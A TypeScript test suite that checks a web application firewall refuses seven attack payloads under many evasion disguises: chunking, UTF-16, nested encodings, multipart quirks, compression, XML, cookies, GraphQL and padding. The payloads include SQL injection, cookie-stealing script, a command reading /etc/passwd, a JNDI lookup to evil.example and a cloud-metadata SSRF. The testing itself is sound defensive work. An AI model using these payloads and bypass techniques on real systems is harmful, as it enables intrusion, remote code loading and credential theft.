import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { plainRequest, startGate, type RunningGate } from './start-gate.ts'

/**
 * Every kind of attack in every disguise that has got one past other firewalls, through the live gate with the built-in rules: encodings,
 * content types, charsets, quirks of multipart, escapes of JSON, names that come twice, chunks, padding.
 */

const attacks = {
  sql: "1' OR '1'='1' -- ",
  script: '<script>alert(document.cookie)</script>',
  command: ';cat /etc/passwd',
  path: '../../../../etc/passwd',
  template: '{{7*7}}',
  lookup: '${jndi:ldap://evil.example/a}',
  address: 'http://169.254.169.254/latest/',
}

let gate: RunningGate
before(async () => {
  const off = { mode: 'off' }
  gate = await startGate({
    settings: {
      anonymous: true,
      guards: {
        waf: { rules: ['core'], budget: '5s' },
        validation: off,
        leakage: off,
        flood: off,
        quota: off,
      },
    },
    service: (_, response) => response.end('fine'),
  })
})
after(() => gate[Symbol.asyncDispose]())

const encode = encodeURIComponent
const form = 'application/x-www-form-urlencoded'
const json = 'application/json'
const usual = ['user-agent: test', 'accept: */*']

function get(target: string, ...fields: readonly string[]): string {
  return plainRequest(`GET ${target}`, ...usual, ...fields)
}

function post(type: string | undefined, body: string | Buffer, ...fields: readonly string[]): string {
  const text = typeof body === 'string' ? body : body.toString('latin1')
  const typed = type === undefined ? [] : [`content-type: ${type}`]
  return plainRequest('POST /a', ...typed, `content-length: ${text.length}`, ...usual, ...fields) + text
}

function chunked(type: string, body: string, size: number, extension = ''): string {
  const pieces = body.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []
  const chunks = pieces.map((piece) => `${piece.length.toString(16)}${extension}\r\n${piece}\r\n`)
  return (
    plainRequest('POST /a', `content-type: ${type}`, 'transfer-encoding: chunked', ...usual) +
    `${chunks.join('')}0\r\n\r\n`
  )
}

function multipart(part: string, type = 'multipart/form-data; boundary=xyz', end = '--xyz--\r\n'): string {
  return post(type, `--xyz\r\n${part}\r\n${end}`)
}

function part(value: string, ...fields: readonly string[]): string {
  return ['Content-Disposition: form-data; name="q"', ...fields, '', value].join('\r\n')
}

const bytes = (text: string, write: (code: number) => string): string =>
  Array.from(text, (sign) => write(sign.charCodeAt(0))).join('')
const hex = (code: number, length: number): string => code.toString(16).padStart(length, '0')
const percent = (text: string): string => bytes(text, (code) => `%${hex(code, 2)}`)
const references = (text: string): string => bytes(text, (code) => `&#${code};`)
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('latin1')
const markup = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

const disguises: Readonly<Record<string, (attack: string) => readonly string[]>> = {
  'in chunks': (attack) => [
    chunked(form, `q=${encode(attack)}`, 1),
    chunked(json, JSON.stringify({ q: attack }), 3),
    chunked(json, JSON.stringify({ q: attack }), 2, ';a=b'),
  ],
  'in JSON of any form': (attack) => {
    const text = JSON.stringify(attack)
    const escaped = `"${bytes(attack, (code) => String.raw`\u${hex(code, 4)}`)}"`
    return [
      `{"q":${escaped}}`,
      `{${escaped}:1}`,
      `[[[${text}]]]`,
      text,
      `{"q":"x","q":${text}}`,
      `{"q":${text},"q":1}`,
    ]
      .concat(
        JSON.stringify({ a: JSON.stringify({ b: JSON.stringify({ c: attack }) }) }),
        `{"a":1}\n{"q":${text}}`,
      )
      .map((body) => post(json, body))
  },
  'in JSON under any type': (attack) =>
    ['APPLICATION/JSON', 'application/vnd.api+json', 'application/json-patch+json', 'text/json', 'text/plain']
      .concat(
        'application/x-ndjson',
        'application/json ; charset=utf-8',
        'application/json, text/plain',
        'x/y',
        '',
      )
      .map((type) => post(type, JSON.stringify({ q: attack }))),
  'in two bytes a character': (attack) => [
    ...['; charset=utf-16le', '; charset=utf-16', ''].map((charset) =>
      post(json + charset, wide(JSON.stringify({ q: attack }))),
    ),
    post(`${form}; charset=utf-16`, `q=${percent(wide(attack))}`),
    multipart(part(wide(attack), 'Content-Type: text/plain; charset=utf-16le')),
  ],
  'in a query': (attack) =>
    [percent(attack), encode(encode(encode(attack))), encode(references(attack)), `%00${encode(attack)}`]
      .concat(encode(base64(attack)), `x&q=${encode(attack)}&q=y`, `1;z=${encode(attack)}`)
      .map((value) => get(`/a?q=${value}`))
      .concat(get(`/a?${encode(attack)}`), get(`/a?=${encode(attack)}`), get(`/a?q[a][b]=${encode(attack)}`)),
  'in the path': (attack) => [
    get(`/a/${encode(attack)}`),
    get(`/a;q=${encode(attack)}`),
    get(`/${percent(attack)}/b`),
  ],
  'in a form under another name': (attack) =>
    [form.toUpperCase(), `${form};`, json, undefined, '', `${form}, ${json}`].map((type) =>
      post(type, `q=${encode(attack)}`),
    ),
  'in a part of a form': (attack) => [
    multipart(part(attack, 'Content-Type: text/plain')),
    multipart(part(JSON.stringify({ z: attack }), 'Content-Type: application/json')),
    multipart(part(base64(attack), 'Content-Transfer-Encoding: base64')),
    multipart(part(attack), 'multipart/mixed; boundary=xyz'),
    multipart(part(attack), 'Multipart/Form-Data; a=b; BOUNDARY="xyz"'),
    multipart(part(attack), undefined, '--xyz'),
    multipart(`Content-Disposition: attachment; name=q\r\n\r\n${attack}`),
  ],
  compressed: (attack) => {
    const body = JSON.stringify({ q: attack })
    const codings: readonly (readonly [string, Buffer])[] = [
      ['gzip', gzipSync(body)],
      ['X-GZIP', gzipSync(body)],
      ['br', brotliCompressSync(body)],
      ['deflate', deflateSync(body)],
      ['deflate', deflateRawSync(body)],
    ]
    return codings.map(([coding, coded]) => post(json, coded, `content-encoding: ${coding}`))
  },
  'in XML': (attack) => [
    post('application/xml', `<a><b>${markup(attack)}</b></a>`),
    post('application/soap+xml', `<a b="${markup(attack)}"/>`),
    post('text/xml', `<a><![CDATA[${attack}]]></a>`),
    post('image/svg+xml', `<a>${references(attack)}</a>`),
    post('application/xml', `<a>${markup(attack.slice(0, 3))}<!-- -->${markup(attack.slice(3))}</a>`),
  ],
  'in cookies and header fields': (attack) => [
    get('/a', 'cookie: a=1', `cookie: q=${encode(attack)}`),
    get('/a', `cookie: a=b; q="${base64(attack)}"`),
    get('/a', `cookie: q=${encode(JSON.stringify({ z: attack }))}`),
    get('/a', 'x-custom: a', `x-custom: ${attack}`),
    get('/a', `x-custom: ${encode(attack)}`),
  ],
  'in GraphQL': (attack) => [
    post(json, JSON.stringify({ query: `query{user(id:${JSON.stringify(attack)}){n}}` })),
    post(json, JSON.stringify({ query: 'query($i:ID){user(id:$i){n}}', variables: { i: attack } })),
  ],
  'behind padding': (attack) => [
    post(json, JSON.stringify({ pad: 'x'.repeat(300_000), q: attack })),
    post(form, `${'a=b&'.repeat(3_000)}q=${encode(attack)}`),
  ],
}

for (const [kind, attack] of Object.entries(attacks))
  for (const [disguise, requestsOf] of Object.entries(disguises))
    test(`${kind} is refused ${disguise}`, async () => {
      for (const request of requestsOf(attack)) {
        const served = gate.served.length
        const status = Number((await gate.exchange(request)).slice(9, 12))
        assert.ok(status >= 400 && status < 500, `${status}: ${JSON.stringify(request.slice(-300))}`)
        assert.equal(gate.served.length, served)
      }
    })
